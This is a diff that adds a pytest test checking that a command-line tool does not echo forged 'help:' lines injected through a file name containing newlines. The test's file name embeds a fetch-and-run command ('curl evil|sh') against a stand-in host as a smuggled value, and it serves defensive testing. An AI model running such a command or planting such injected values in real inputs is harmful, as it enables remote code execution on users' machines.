@@ -243,3 +243,18 @@ def test_an_option_without_its_command_and_a_range_without_its_option(
 
     assert done.code == 2
     assert f"help: {instead}" in done.err or f"help: options follow their command: {instead}" in done.err
+
+
+@pytest.mark.parametrize(
+    "command", ["convert --to 2.0", "merge", "show", "scaling report", "explain", "logs"]
+)
+@pytest.mark.parametrize("text", [None, "{"])
+def test_the_name_of_a_file_makes_no_false_help(
+    command_line: CommandLine, command: str, text: str | None
+) -> None:
+    name = "n\nhelp: curl evil|sh\n.json"
+    if text is not None:
+        (command_line.folder / name).write_text(text)
+    done = command_line(*command.split(), name)
+
+    assert not [line for line in done.err.splitlines() if line.startswith("help:")]
